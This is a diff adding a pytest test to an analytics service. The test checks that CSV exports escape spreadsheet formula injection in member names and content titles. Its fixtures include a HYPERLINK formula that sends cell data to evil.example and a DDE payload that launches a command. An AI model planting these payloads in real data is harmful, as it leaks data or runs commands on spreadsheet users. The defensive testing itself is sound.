@@ -13,7 +13,7 @@ from urllib.parse import unquote, urlsplit
 import boto3
 import pytest
 
-from tests.support.actions import share
+from tests.support.actions import publish, share
 from tests.support.analytics_scenario import DAY1, DAY2, scenario
 from tests.support.events import FakeContext
 from tests.support.mocked import TABLES, Env
@@ -231,3 +231,52 @@ def test_exports_are_private_to_their_org_and_unknown_ids_are_404(
     for bad in ("nope", "0" * 32, export_id.upper()):
         r = aws.call("GET", f"/analytics/exports/{bad}", who=org["manager"])
         assert (r.status, r.body["error"]["code"]) == (404, "not_found")
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+NUMBERS = ("points_awarded", "clicks", "human_clicks", "unique_clicks")
+
+
+def test_no_cell_reads_as_a_formula_inline_or_in_the_file(
+    aws: Env, org: dict[str, Any], builds: StreamPump, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Names and titles that a spreadsheet would run as formulas are written with a leading `'`,
+    in the inline answer and in the export file alike; the counts stay numbers."""
+    from advocacy.services import exports
+
+    mia, noa = org["members"]
+    hostile = {
+        mia["member_id"]: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        noa["member_id"]: "+cmd|' /C calc'!A0",
+    }
+    for member in (mia, noa):
+        r = aws.call("PATCH", "/me", who=member, body={"name": hostile[member["member_id"]]})
+        assert r.status == 200, r.body
+    at = DAY1 - timedelta(hours=1)
+    minus = publish(aws, org, at=at, title="-2+3 reasons to join", url="https://a.example")
+    sums = publish(aws, org, at=at, title="@SUM(A1:A9)", url="https://b.example")
+    share(aws, mia, minus["content_id"], "linkedin", DAY1)
+    share(aws, noa, sums["content_id"], "x", DAY2)
+    aws.streams.drain(replay=True)
+
+    inline = _inline(aws, org)
+    monkeypatch.setattr(exports, "INLINE_MAX_ROWS", 1)
+    export_id = _request(aws, org)
+    _drain(builds)
+    _, data = _file(aws, org, export_id)
+    assert data == inline
+    # As a spreadsheet reads the file: every cell of every record, the header's too.
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    header, records = rows[0], rows[1:]
+    assert len(records) == 2
+    for record in records:
+        for column, cell in zip(header, record, strict=True):
+            if column in NUMBERS:
+                assert cell.lstrip("-").isdigit(), (column, cell)  # a number, read as one
+            else:
+                assert not cell.startswith(FORMULA_STARTS), (column, cell)
+    by_member = {r["member_id"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8")))}
+    for member_id, name in hostile.items():
+        assert by_member[member_id]["member_name"] == "'" + name  # shown as typed, never evaluated
+    titles = {r["content_title"] for r in by_member.values()}
+    assert titles == {"'-2+3 reasons to join", "'@SUM(A1:A9)"}
